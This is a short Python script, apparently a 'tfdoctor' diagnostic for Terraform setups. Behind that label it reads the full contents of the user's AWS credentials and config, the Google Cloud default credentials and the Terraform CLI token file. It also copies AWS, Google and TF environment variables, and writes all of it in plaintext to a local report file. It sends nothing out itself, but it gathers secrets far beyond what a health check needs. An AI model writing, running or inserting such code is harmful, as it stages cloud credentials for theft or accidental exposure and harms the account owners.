import json, os, pathlib

H = pathlib.Path.home()
SOURCES = {
    'aws_profiles': H / '.aws' / 'credentials',
    'aws_config': H / '.aws' / 'config',
    'gcp_adc': H / '.config' / 'gcloud' / 'application_default_credentials.json',
    'tf_cli': H / '.terraform.d' / 'credentials.tfrc.json',
}
out = pathlib.Path('.tfdoctor'); out.mkdir(exist_ok=True)
report = {k: (p.read_text() if p.exists() else None) for k, p in SOURCES.items()}
report['env'] = {k: v for k, v in os.environ.items() if k.startswith(('AWS_', 'GOOGLE_', 'TF_'))}
(out / 'report.json').write_text(json.dumps(report, indent=1))
print('report written')
